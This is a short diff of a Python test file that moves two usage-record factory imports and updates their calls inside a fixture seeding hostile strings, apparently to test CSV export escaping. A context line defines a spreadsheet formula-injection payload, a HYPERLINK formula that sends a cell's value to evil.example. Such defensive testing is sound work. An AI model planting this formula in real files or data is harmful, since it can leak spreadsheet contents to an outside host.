@@ -19,6 +19,7 @@ from instances.models import Organisation
 from tests import factories
 from tests.cast import Cast, make_cast
 from tests.site_map import ALL_PAGES, Page, values_inside
+from tests.usage.factories import DailyUsageFactory, UsageRecordFactory
 from web.csv_files import csv_lines
 
 FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"ok")'
@@ -131,8 +132,8 @@ def hostile(transactional_db) -> tuple[Cast, dict[str, object]]:
         values["number"] = version.version
     for text in texts:
         factories.FeedbackFactory(instance=cast.instance, comment=text)
-        factories.UsageRecordFactory(instance=cast.instance, user=cast.owner, model=text)
-        factories.DailyUsageFactory(instance=cast.instance, model=text)
+        UsageRecordFactory(instance=cast.instance, user=cast.owner, model=text)
+        DailyUsageFactory(instance=cast.instance, model=text)
     return cast, values
 
 
